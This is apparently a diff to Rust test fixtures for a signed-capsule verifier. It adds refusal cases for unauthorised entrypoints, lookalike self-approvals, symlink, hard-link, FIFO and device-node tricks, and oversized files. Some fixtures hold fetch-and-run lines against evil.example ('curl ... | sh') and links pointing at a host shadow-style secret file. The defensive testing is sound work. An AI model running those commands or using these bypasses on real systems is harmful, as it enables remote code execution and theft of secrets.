@@ -572,6 +572,26 @@ pub const CASES: &[Case] = &[
             ..plain(w.good_capsule(n, Signer::Es256))
         },
     },
+    // The tenant restricts runners: without an identity nothing is allowed, whatever
+    // the manifest's own `runners` says.
+    Case {
+        name: "no-runner-identity-manifest-runners-empty",
+        reason: Reason::RunnerNotAllowed,
+        build: |w, n| Setup {
+            runner: None,
+            ..with_manifest(w, n, |m| m["runners"] = json!([]))
+        },
+    },
+    Case {
+        name: "no-runner-identity-manifest-runners-missing",
+        reason: Reason::RunnerNotAllowed,
+        build: |w, n| Setup {
+            runner: None,
+            ..with_manifest(w, n, |m| {
+                m.as_object_mut().expect("object").remove("runners");
+            })
+        },
+    },
     Case {
         name: "runner-from-other-trust-domain",
         reason: Reason::RunnerNotAllowed,
@@ -604,13 +624,128 @@ pub const CASES: &[Case] = &[
         },
     },
     Case {
+        // The program that runs is any host program: the armory is bypassed.
+        name: "entrypoint-host-shell-runs-a-downloaded-script",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["entrypoint"] = json!([
+                    "/bin/bash",
+                    "-c",
+                    "curl -s https://evil.example/payload | sh"
+                ])
+            })
+        },
+    },
+    Case {
+        // `/bin/sh` is allowed; another spelling of it is not the same string.
+        name: "entrypoint-host-program-in-another-spelling",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/bin//sh", "-c", "id"])),
+    },
+    Case {
+        name: "entrypoint-staged-file-not-in-manifest",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["entrypoint"] = json!(["/capsule/not-in-manifest"])
+            })
+        },
+    },
+    Case {
+        name: "entrypoint-escapes-capsule-dir",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["/capsule/../bin/bash"])),
+    },
+    Case {
+        name: "entrypoint-relative-path",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| with_manifest(w, n, |m| m["entrypoint"] = json!(["run.sh"])),
+    },
+    Case {
+        name: "entrypoint-script-shebang-names-disallowed-interpreter",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            let script: &[u8] = b"#!/usr/bin/perl\nsystem('curl evil.example | sh');\n";
+            let files: [(&str, &[u8]); 1] = [("run.sh", script)];
+            let mut m = w.script_manifest(&files);
+            m["entrypoint"] = json!(["/capsule/run.sh"]);
+            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
+        },
+    },
+    Case {
+        // The interpreter is staged, but is itself a script for a disallowed one.
+        name: "entrypoint-script-interpreter-chain-reaches-disallowed-interpreter",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            let files: [(&str, &[u8]); 2] = [
+                ("run.sh", b"#!/capsule/lib/interp\necho hi\n"),
+                ("lib/interp", b"#! /usr/bin/python3 -S\nimport os\n"),
+            ];
+            let mut m = w.script_manifest(&files);
+            m["entrypoint"] = json!(["/capsule/run.sh"]);
+            plain(w.capsule_with_files(n, &m, &files, Signer::Es256))
+        },
+    },
+    Case {
         name: "self-approval-by-author",
         reason: Reason::ApprovalInsufficient,
         build: |w, n| {
             with_manifest(w, n, |m| {
-                m["approvals"][0]["approver"] = json!("Planner@acme.example")
+                m["approvals"][0]["approver"] = json!("planner@acme.example")
             })
         },
+    },
+    // The author approving under a lookalike of their own identity: each spelling is
+    // refused as malformed, none counts as a second person.
+    Case {
+        name: "approver-author-with-trailing-space",
+        reason: Reason::MalformedManifest,
+        build: |w, n| self_approval_as(w, n, "planner@acme.example "),
+    },
+    Case {
+        name: "approver-author-in-fullwidth-letters",
+        reason: Reason::MalformedManifest,
+        build: |w, n| {
+            self_approval_as(
+                w,
+                n,
+                "\u{ff50}\u{ff4c}\u{ff41}\u{ff4e}\u{ff4e}\u{ff45}\u{ff52}@acme.example",
+            )
+        },
+    },
+    Case {
+        name: "approver-author-with-trailing-dot",
+        reason: Reason::MalformedManifest,
+        build: |w, n| self_approval_as(w, n, "planner@acme.example."),
+    },
+    Case {
+        name: "approver-author-with-zero-width-space",
+        reason: Reason::MalformedManifest,
+        build: |w, n| self_approval_as(w, n, "plan\u{200b}ner@acme.example"),
+    },
+    Case {
+        name: "approver-author-in-uppercase",
+        reason: Reason::MalformedManifest,
+        build: |w, n| self_approval_as(w, n, "Planner@acme.example"),
+    },
+    Case {
+        name: "approver-nfd-accents-lookalike-of-nfc",
+        reason: Reason::MalformedManifest,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["author"] = json!("asa@acme.example");
+                m["approvals"] = json!([
+                    {"approver": "\u{e5}sa@acme.example", "role": "sre-lead", "approved_at": w.now - 300},
+                    {"approver": "a\u{30a}sa@acme.example", "role": "sre-lead", "approved_at": w.now - 300},
+                ]);
+            })
+        },
+    },
+    Case {
+        name: "author-in-uppercase",
+        reason: Reason::MalformedManifest,
+        build: |w, n| with_manifest(w, n, |m| m["author"] = json!("PLANNER@acme.example")),
     },
     Case {
         name: "no-approvals",
@@ -697,11 +832,29 @@ pub const CASES: &[Case] = &[
             let s = plain(w.good_capsule(n, Signer::Es256));
             let p = s.capsule.join("files/run.sh");
             fs::remove_file(&p).expect("rm");
-            let status = std::process::Command::new("mkfifo")
-                .arg(&p)
-                .status()
-                .expect("mkfifo (coreutils)");
-            assert!(status.success());
+            mkfifo(&p);
+            s
+        },
+    },
+    Case {
+        name: "artifact-is-a-device-node",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let p = s.capsule.join("files/run.sh");
+            fs::remove_file(&p).expect("rm");
+            mknod_dev_zero(&p);
+            s
+        },
+    },
+    Case {
+        name: "files-dir-is-a-symlink",
+        reason: Reason::ArtifactPathInvalid,
+        build: |w, n| {
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let decoy = w.path(&format!("{n}-decoy-files"));
+            fs::rename(s.capsule.join("files"), &decoy).expect("mv");
+            symlink(decoy, s.capsule.join("files")).expect("symlink");
             s
         },
     },
@@ -746,6 +899,8 @@ pub const CASES: &[Case] = &[
             let mut m = w.manifest();
             m["artifacts"] =
                 json!([{"path": "big.bin", "sha256": sha256_hex(&big), "size": big.len()}]);
+            // Nothing of it is a program: the entrypoint is an allowed host program.
+            m["entrypoint"] = json!(["/bin/true"]);
             let s = plain(w.capsule(n, &m, Signer::Es256));
             fs::write(s.capsule.join("files/big.bin"), &big).expect("write");
             Setup {
@@ -777,6 +932,100 @@ pub const CASES: &[Case] = &[
         build: |w, n| with_manifest(w, n, |m| m["limits"]["timeout_ms"] = json!(86_400_000u64)),
     },
     Case {
+        name: "oversized-sparse-jws-file",
+        reason: Reason::LimitExceeded,
+        build: |w, n| {
+            // 1 TiB on paper: refused by its size, never read.
+            let s = plain(w.good_capsule(n, Signer::Es256));
+            let f = fs::OpenOptions::new()
+                .write(true)
+                .open(s.capsule.join("capsule.jws"))
+                .expect("open");
+            f.set_len(1 << 40).expect("sparse file");
+            s
+        },
+    },
+    Case {
+        name: "capsule-jws-symlink-to-host-file",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            jws_replaced(w, n, |w, p| {
+                symlink(host_secret(w), p).expect("symlink");
+            })
+        },
+    },
+    Case {
+        name: "capsule-jws-symlink-to-trust-store",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            jws_replaced(w, n, |w, p| {
+                symlink(w.path("trusted.jwks.json"), p).expect("symlink");
+            })
+        },
+    },
+    Case {
+        name: "capsule-jws-hard-link-to-host-file",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            jws_replaced(w, n, |w, p| {
+                fs::hard_link(host_secret(w), p).expect("hard link");
+            })
+        },
+    },
+    Case {
+        name: "capsule-jws-is-a-fifo",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| jws_replaced(w, n, |_, p| mkfifo(p)),
+    },
+    Case {
+        name: "capsule-jws-is-a-device-node",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| jws_replaced(w, n, |_, p| mknod_dev_zero(p)),
+    },
+    Case {
+        name: "capsule-jws-symlink-to-dev-zero",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            jws_replaced(w, n, |_, p| {
+                symlink("/dev/zero", p).expect("symlink");
+            })
+        },
+    },
+    Case {
+        name: "capsule-jws-is-a-directory",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| jws_replaced(w, n, |_, p| fs::create_dir(p).expect("mkdir")),
+    },
+    Case {
+        name: "capsule-jws-missing",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| jws_replaced(w, n, |_, _| {}),
+    },
+    Case {
+        name: "capsule-dir-missing",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| plain(w.path(n)),
+    },
+    Case {
+        name: "capsule-dir-is-a-symlink",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            let real = w.good_capsule(&format!("{n}-real"), Signer::Es256);
+            let link = w.path(n);
+            symlink(real, &link).expect("symlink");
+            plain(link)
+        },
+    },
+    Case {
+        name: "capsule-dir-is-a-fifo",
+        reason: Reason::CapsuleUnreadable,
+        build: |w, n| {
+            let p = w.path(n);
+            mkfifo(&p);
+            plain(p)
+        },
+    },
+    Case {
         name: "state-unreadable",
         reason: Reason::StateUnavailable,
         build: |w, n| Setup {
@@ -785,6 +1034,57 @@ pub const CASES: &[Case] = &[
         },
     },
 ];
+
+/// The content of a host file a capsule points at; no output may contain it or its
+/// sha256 (the CLI tests check every fixture's output for both).
+pub const HOST_SECRET: &[u8] =
+    b"root:$6$host-secret-not-for-capsules$0123456789abcdef:19000:0:99999:7:::\n";
+
+/// A host file outside every capsule, holding [`HOST_SECRET`].
+pub fn host_secret(w: &World) -> PathBuf {
+    let p = w.path("host/shadow");
+    if !p.exists() {
+        w.write("host/shadow", HOST_SECRET);
+    }
+    p
+}
+
+/// A good capsule whose `capsule.jws` is removed and replaced by `make`.
+fn jws_replaced(w: &World, n: &str, make: fn(&World, &std::path::Path)) -> Setup {
+    let s = plain(w.good_capsule(n, Signer::Es256));
+    let p = s.capsule.join("capsule.jws");
+    fs::remove_file(&p).expect("rm");
+    make(w, &p);
+    s
+}
+
+/// The author approving their own capsule as `approver`.
+fn self_approval_as(w: &World, n: &str, approver: &str) -> Setup {
+    with_manifest(w, n, |m| m["approvals"][0]["approver"] = json!(approver))
+}
+
+pub fn mkfifo(p: &std::path::Path) {
+    let status = std::process::Command::new("mkfifo")
+        .arg(p)
+        .status()
+        .expect("mkfifo (Debian package coreutils)");
+    assert!(status.success(), "mkfifo {}", p.display());
+}
+
+/// A character device like `/dev/zero` (1, 5). Needs CAP_MKNOD (the tests run as root,
+/// as the sandbox tests do).
+pub fn mknod_dev_zero(p: &std::path::Path) {
+    let status = std::process::Command::new("mknod")
+        .arg(p)
+        .args(["c", "1", "5"])
+        .status()
+        .expect("mknod (Debian package coreutils)");
+    assert!(
+        status.success(),
+        "mknod {} c 1 5: needs root (CAP_MKNOD)",
+        p.display()
+    );
+}
 
 /// Size of the artifact truncated while it is hashed: large enough that hashing
 /// takes tens of milliseconds, so a truncation lands in the middle.
@@ -832,4 +1132,61 @@ pub fn truncate_while<T>(
         }
     }
     seen
+}
+
+/// A process blocked opening a FIFO for writing: it stays blocked until something
+/// opens the FIFO for reading. Tests use it to show that a FIFO was never opened.
+#[derive(Debug)]
+pub struct BlockedWriter {
+    child: std::process::Child,
+}
+
+impl BlockedWriter {
+    /// Starts `sh -c 'echo released > FIFO'` and waits (up to 10 s) until it sleeps
+    /// in the kernel's FIFO open.
+    pub fn start(fifo: &std::path::Path) -> BlockedWriter {
+        let child = std::process::Command::new("sh")
+            .args(["-c", "echo released > \"$1\"", "sh"])
+            .arg(fifo)
+            .spawn()
+            .expect("sh (Debian package dash)");
+        let w = BlockedWriter { child };
+        let end = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        while !w.is_blocked() {
+            assert!(
+                std::time::Instant::now() < end,
+                "the writer never blocked on {}",
+                fifo.display()
+            );
+            std::thread::sleep(std::time::Duration::from_millis(5));
+        }
+        w
+    }
+
+    /// Still waiting for a reader.
+    pub fn is_blocked(&self) -> bool {
+        let wchan = fs::read_to_string(format!("/proc/{}/wchan", self.child.id()));
+        wchan.is_ok_and(|w| w.trim() == "wait_for_partner")
+    }
+
+    /// Opens the FIFO for reading and checks that this releases the writer, which
+    /// proves [`BlockedWriter::is_blocked`] can see the difference.
+    pub fn release(mut self, fifo: &std::path::Path) {
+        use std::io::Read;
+        let mut r = fs::File::open(fifo).expect("open FIFO for reading");
+        let mut got = String::new();
+        r.read_to_string(&mut got).expect("read FIFO");
+        assert_eq!(got, "released\n");
+        let status = self.child.wait().expect("writer exits");
+        assert!(status.success());
+    }
+}
+
+impl Drop for BlockedWriter {
+    fn drop(&mut self) {
+        if let Ok(None) = self.child.try_wait() {
+            let _ = self.child.kill();
+            let _ = self.child.wait();
+        }
+    }
 }
